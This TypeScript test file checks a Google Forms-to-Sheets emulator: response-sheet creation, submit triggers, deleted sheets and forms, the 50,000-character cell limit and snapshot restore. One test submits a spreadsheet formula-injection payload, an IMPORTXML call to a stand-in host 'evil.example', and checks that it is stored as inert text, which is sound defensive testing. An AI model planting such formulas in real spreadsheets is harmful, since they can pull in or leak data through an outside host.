// Contract tests of the Forms → Sheets link on the spreadsheet emulator, forms as Drive files, the 50,000-character
// cell limit and the forms snapshot (apps-script-facts §3.5, §6.2–6.4).
import { createGlobals, World } from '../../tools/emulator';
import { deleteFilePermanently, FORM_MIME, trashFile } from '../../tools/emulator/drive';
import { restoreForms, snapshotForms, submitForm } from '../../tools/emulator/forms';
import { createSpreadsheet, deleteSheetAsPerson, openSpreadsheet } from '../../tools/emulator/spreadsheet';
import type { DriveV3 } from '../../src/google/docs/services';

type Publishable = GoogleAppsScript.Forms.Form & { setPublished(b: boolean): GoogleAppsScript.Forms.Form };

function setup(locale = 'ru_RU') {
  const world = new World({ now: '2026-09-10T07:30:05Z', locale: 'ru' });
  const model = createSpreadsheet(world, {
    name: 'Наставничество',
    locale,
    timeZone: 'Europe/Moscow',
    sheets: ['Настройки', 'Наставляемые'],
  });
  const g = createGlobals(world);
  const FormApp = g.FormApp as GoogleAppsScript.Forms.FormApp;
  const ScriptApp = g.ScriptApp as GoogleAppsScript.Script.ScriptApp;
  const Drive = g.Drive as DriveV3;
  const form = FormApp.create('Запросы') as Publishable;
  form.setPublished(true);
  form.addTextItem().setTitle('ФИО').setRequired(true);
  form.addCheckboxItem().setTitle('Предметы').setChoiceValues(['математика', 'физика']);
  form.addTextItem().setTitle('Стаж');
  form.addDateItem().setTitle('Дата приёма');
  return { world, id: model.id, FormApp, ScriptApp, Drive, form, ss: () => openSpreadsheet(world) };
}

describe('response sheet in the emulated spreadsheet (§6.2)', () => {
  test('setDestination inserts «Ответы на форму (1)» as the first tab, header row frozen: «Отметка времени», then the questions', () => {
    const { FormApp, form, id, ss } = setup();
    form.setDestination(FormApp.DestinationType.SPREADSHEET, id);
    const sheets = ss().getSheets();
    expect(sheets.map((s) => s.getName())).toEqual(['Ответы на форму (1)', 'Настройки', 'Наставляемые']);
    expect(sheets[0]!.getFrozenRows()).toBe(1);
    expect(sheets[0]!.getRange(1, 1, 1, 5).getValues()[0]).toEqual([
      'Отметка времени',
      'ФИО',
      'Предметы',
      'Стаж',
      'Дата приёма',
    ]);
  });

  test('a submission writes raw typed values as the Forms product does: a Date timestamp shown with date and time, "=…" kept as text, "05" a number', () => {
    const { world, FormApp, form, id, ss } = setup();
    form.setDestination(FormApp.DestinationType.SPREADSHEET, id);
    const payload = '=IMPORTXML("http://evil.example","//a")';
    const s = submitForm(world, form.getId(), {
      ФИО: payload,
      Предметы: ['математика', 'физика'],
      Стаж: '05',
      'Дата приёма': '01.09.2025',
    });
    const row = ss().getSheetByName('Ответы на форму (1)')!.getRange(2, 1, 1, 5);
    const values = row.getValues()[0]!;
    expect(values[0]).toEqual(new Date('2026-09-10T07:30:05Z'));
    expect(values.slice(1, 4)).toEqual([payload, 'математика, физика', 5]);
    expect(values[4]).toBeInstanceOf(Date);
    expect(row.getFormulas()[0]).toEqual(['', '', '', '', '']);
    expect(row.getDisplayValues()[0]!.slice(0, 1)).toEqual(['10.09.2026 10:30:05']);
    expect(s.event!.values).toEqual(['10.09.2026 10:30:05', payload, 'математика, физика', '5', '01.09.2025']);
  });

  test('e.range is the response row of the real sheet (getRow, getSheet().getName(), getValues) and e.source the spreadsheet', () => {
    const { world, FormApp, ScriptApp, form, id } = setup();
    form.setDestination(FormApp.DestinationType.SPREADSHEET, id);
    ScriptApp.newTrigger('handleFormSubmit').forSpreadsheet(id).onFormSubmit().create();
    submitForm(world, form.getId(), { ФИО: 'Первая Анна' });
    const s = submitForm(world, form.getId(), { ФИО: 'Вторая Вера' });
    const e = s.deliveries[0]!.event;
    const range = e.range as GoogleAppsScript.Spreadsheet.Range;
    expect(range.getRow()).toBe(3);
    expect(range.getSheet().getName()).toBe('Ответы на форму (1)');
    expect(range.getValues()[0]!.slice(1, 2)).toEqual(['Вторая Вера']);
    expect((e.source as GoogleAppsScript.Spreadsheet.Spreadsheet).getId()).toBe(id);
  });

  test('a question added later gets a new column at the end; earlier rows keep their cells [U]', () => {
    const { world, FormApp, form, id, ss } = setup();
    form.setDestination(FormApp.DestinationType.SPREADSHEET, id);
    submitForm(world, form.getId(), { ФИО: 'Первая Анна' });
    form.addParagraphTextItem().setTitle('Затруднения');
    submitForm(world, form.getId(), { ФИО: 'Вторая Вера', Затруднения: 'дисциплина' });
    const sheet = ss().getSheetByName('Ответы на форму (1)')!;
    expect(sheet.getRange(1, 6).getValue()).toBe('Затруднения');
    expect(
      sheet
        .getRange(2, 2, 2, 5)
        .getValues()
        .map((r) => [r[0], r[4]]),
    ).toEqual([
      ['Первая Анна', ''],
      ['Вторая Вера', 'дисциплина'],
    ]);
  });
});

describe('a deleted response sheet (§6.2 [U])', () => {
  test('a person deletes the response sheet: the form still keeps new answers, no row is written, no trigger fires', () => {
    const { world, FormApp, ScriptApp, form, id, ss } = setup();
    form.setDestination(FormApp.DestinationType.SPREADSHEET, id);
    ScriptApp.newTrigger('handleFormSubmit').forSpreadsheet(id).onFormSubmit().create();
    deleteSheetAsPerson(world, 'Ответы на форму (1)');
    const s = submitForm(world, form.getId(), { ФИО: 'Анна Иванова' });
    expect([s.row, s.deliveries]).toEqual([null, []]);
    expect(form.getResponses()).toHaveLength(1);
    expect(
      ss()
        .getSheets()
        .map((sh) => sh.getName()),
    ).toEqual(['Настройки', 'Наставляемые']);
  });

  test('linking again makes a new response sheet that receives every answer the form holds, oldest first [R*]', () => {
    const { world, FormApp, form, id, ss } = setup();
    form.setDestination(FormApp.DestinationType.SPREADSHEET, id);
    submitForm(world, form.getId(), { ФИО: 'Первая Анна' });
    deleteSheetAsPerson(world, 'Ответы на форму (1)');
    world.clock.advance(60_000);
    submitForm(world, form.getId(), { ФИО: 'Вторая Вера' });
    form.setDestination(FormApp.DestinationType.SPREADSHEET, id);
    const rows = ss().getSheetByName('Ответы на форму (1)')!.getDataRange().getValues();
    expect(rows.map((r) => r[1])).toEqual(['ФИО', 'Первая Анна', 'Вторая Вера']);
    expect((rows[2]![0] as Date).getTime() - (rows[1]![0] as Date).getTime()).toBe(60_000);
  });
});

describe('forms are Drive files (§6, §10)', () => {
  test('FormApp.create makes a Drive file of the form MIME type, visible to the app under drive.file', () => {
    const { Drive, form } = setup();
    const f = Drive.Files.get(form.getId(), { fields: 'id,mimeType,trashed' });
    expect(f.mimeType).toBe(FORM_MIME);
    expect(f.trashed).toBe(false);
  });

  test('a trashed form still opens by id (Drive keeps trashed files) but takes no answers; a deleted one cannot be opened [U]', () => {
    const { world, FormApp, Drive, form, id } = setup();
    form.setDestination(FormApp.DestinationType.SPREADSHEET, id);
    trashFile(world, form.getId());
    expect(FormApp.openById(form.getId()).getTitle()).toBe('Запросы');
    expect(Drive.Files.get(form.getId(), { fields: 'trashed' }).trashed).toBe(true);
    expect(() => submitForm(world, form.getId(), { ФИО: 'Анна Иванова' })).toThrow('Форма больше не принимает ответы.');
    deleteFilePermanently(world, form.getId());
    expect(() => FormApp.openById(form.getId())).toThrow('Не удалось найти элемент с указанным идентификатором');
  });
});

describe('the 50,000-character cell limit (§3.5)', () => {
  test('setValues, setValue and appendRow refuse a longer string before writing anything', () => {
    const { ss } = setup();
    const sheet = ss().getSheetByName('Настройки')!;
    const long = 'я'.repeat(50_001);
    expect(() => sheet.getRange(1, 1, 1, 2).setValues([['ok', long]])).toThrow('более 50000 символов в одной ячейке');
    expect(sheet.getRange(1, 1).getValue()).toBe('');
    expect(() => sheet.getRange(1, 1).setValue(long)).toThrow('50000');
    expect(() => sheet.appendRow([long])).toThrow('50000');
    sheet.getRange(1, 1).setValue('я'.repeat(50_000));
    expect(String(sheet.getRange(1, 1).getValue()).length).toBe(50_000);
  });
});

describe('forms snapshot (playground persistence)', () => {
  test('snapshot → JSON → restore keeps forms, items, choices, validation, destination and responses', () => {
    const { world, FormApp, form, id } = setup();
    form
      .getItems()[2]!
      .asTextItem()
      .setValidation(FormApp.createTextValidation().requireWholeNumber().setHelpText('число').build());
    form.setDestination(FormApp.DestinationType.SPREADSHEET, id);
    submitForm(world, form.getId(), { ФИО: 'Анна Иванова', Предметы: ['физика'] });
    const json = JSON.parse(JSON.stringify(snapshotForms(world)));
    const other = new World({ now: '2026-09-11T07:00:00Z' });
    restoreForms(other, json);
    const F = createGlobals(other).FormApp as GoogleAppsScript.Forms.FormApp;
    const again = F.openById(form.getId());
    expect(again.getItems().map((i) => i.getTitle())).toEqual(['ФИО', 'Предметы', 'Стаж', 'Дата приёма']);
    expect(
      again
        .getItems()[1]!
        .asCheckboxItem()
        .getChoices()
        .map((c) => c.getValue()),
    ).toEqual(['математика', 'физика']);
    expect(again.getItems().map((i) => i.getId())).toEqual(form.getItems().map((i) => i.getId()));
    expect(again.getDestinationId()).toBe(id);
    expect(again.getPublishedUrl()).toBe(form.getPublishedUrl());
    expect(again.getResponses()[0]!.getItemResponses()[0]!.getResponse()).toBe('Анна Иванова');
    expect(again.isAcceptingResponses()).toBe(true);
  });
});
